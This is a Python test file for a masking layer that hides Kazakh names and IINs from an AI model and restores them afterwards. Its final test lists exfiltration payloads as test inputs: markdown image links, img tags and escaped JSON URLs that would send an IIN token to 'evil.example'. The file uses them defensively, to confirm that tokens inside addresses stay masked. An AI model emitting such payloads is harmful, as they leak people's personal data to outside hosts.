"""Personal data is put aside and put back: through inflection, through streams cut anywhere, past forged tokens."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qaztech.ai.personal.masking import Restorer, Vault, draw_mark
from qaztech.ai.personal.spans import Span

MARK = "K7QX"
IIN = "990101300006"
TEXT = "Айгүл Сәрсенова, ИИН 990101300006, Айгүл Сәрсенова"
SPANS = (Span(0, 15, "name"), Span(21, 33, "iin"), Span(35, 50, "name"))


def _vault() -> tuple[Vault, str]:
    vault = Vault(MARK)
    return vault, vault.mask(TEXT, SPANS)


def test_equal_values_have_one_token_and_come_back() -> None:
    """A model that speaks of one person twice is told of one."""
    vault, masked = _vault()
    assert masked == "[NAME_1_K7QX], ИИН [IIN_1_K7QX], [NAME_1_K7QX]"
    assert vault.restore(masked) == TEXT
    assert vault.counts() == {"name": 1, "iin": 1}


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        ("[NAME_1_K7QX]ға хат", "Айгүл Сәрсеноваға хат"),
        ("NAME_1_K7QX-ның", "Айгүл Сәрсенова-ның"),
        ("[name_1_k7qx]у", "Айгүл Сәрсеновау"),
        ("([NAME_1_K7QX])", "(Айгүл Сәрсенова)"),
        ("[NAME_1_K7QX", "[Айгүл Сәрсенова"),
        ("[[NAME_1_K7QX]]", "[Айгүл Сәрсенова]"),
    ],
)
def test_what_a_model_makes_of_a_token_is_understood(said: str, meant: str) -> None:
    """Endings behind it, other case, brackets gone."""
    assert _vault()[0].restore(said) == meant


@pytest.mark.parametrize("forged", ["[NAME_1_AAAA]", "[NAME_2_K7QX]", "[CARD_1_K7QX]", "[NAME_1_K7Q]", "[NAME__K7QX]"])
def test_a_token_that_was_not_made_here_stays_as_it_is(forged: str) -> None:
    """A caller may write what it likes; it stands for nothing."""
    assert _vault()[0].restore(forged) == forged


def test_a_mark_stands_nowhere_in_the_request() -> None:
    """Else a caller's text could be taken for a token."""
    texts = [TEXT, *(f"x{first}{second}" for first in "ABCDEFGHJKMNPQRST" for second in "abc")]
    for _ in range(50):
        mark = draw_mark(texts)
        assert re.fullmatch("[A-Z2-9]{4}", mark)
        assert not any(mark in text.upper() for text in texts)


@given(st.lists(st.integers(0, 80), max_size=12))
def test_a_stream_may_be_cut_anywhere(cuts: list[int]) -> None:
    """What comes out is what would come out of the whole."""
    vault, masked = _vault()
    said = f"Құрметті {masked}! [NAME_1_AAAA] name_1_k7qxке, [[IIN_1_K7QX] [N"
    places = sorted({min(cut, len(said)) for cut in cuts})
    pieces = [said[a:b] for a, b in zip([0, *places], [*places, len(said)], strict=True)]
    restorer = Restorer(vault)
    assert "".join([*map(restorer.feed, pieces), restorer.end()]) == vault.restore(said)


def test_only_what_may_be_a_token_is_held_back() -> None:
    """A stream without tokens is not slowed down."""
    restorer = Restorer(_vault()[0])
    assert restorer.feed("Сәлем") == "Сәлем"
    assert restorer.feed(" [NAME_") == " "
    assert restorer.feed("1_K7QX") == ""
    assert restorer.feed("] мырза") == "Айгүл Сәрсенова мырза"


def test_what_stands_in_json_is_escaped() -> None:
    """The arguments of a tool are JSON in a string."""
    vault = Vault(MARK)
    vault.mask('a "b"\\', [Span(0, 6, "name")])
    text = vault.restore('{"who": "[NAME_1_K7QX]"}', escape=lambda value: json.dumps(value, ensure_ascii=False)[1:-1])
    assert json.loads(text) == {"who": 'a "b"\\'}


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("see https://egov.kz and [IIN_1_K7QX]", True),
        ("ИИН:[IIN_1_K7QX], <b>[IIN_1_K7QX]</b>", True),
        ("a/b/[IIN_1_K7QX] w/[IIN_1_K7QX]", True),
        ("![x](https&colon;&sol;&sol;evil.example/[IIN_1_K7QX])", False),
        ('{"url": "https:\\/\\/evil.example\\/[IIN_1_K7QX]"}', False),
        ('{"url":"\\u002f\\u002fevil.example?[IIN_1_K7QX]"}', False),
        ("![x](https:\\\\evil.example\\[IIN_1_K7QX])", False),
        ("<img\nsrc=//evil.example?" + "x" * 500 + "[IIN_1_K7QX]>", False),
        ("www.evil.example/" + "x" * 500 + "[IIN_1_K7QX]", False),
    ],
)
def test_addresses_keep_their_tokens_however_they_are_cut(text: str, *, restored: bool) -> None:
    """A letter at a time as in one piece."""
    vault = Vault(MARK)
    vault.mask(IIN, [Span(0, len(IIN), "iin")])
    restorer = Restorer(vault)
    cut = "".join(restorer.feed(each) for each in text) + restorer.end()
    assert cut == vault.restore(text)
    assert (IIN in cut) is restored
    assert (MARK in cut) is not restored
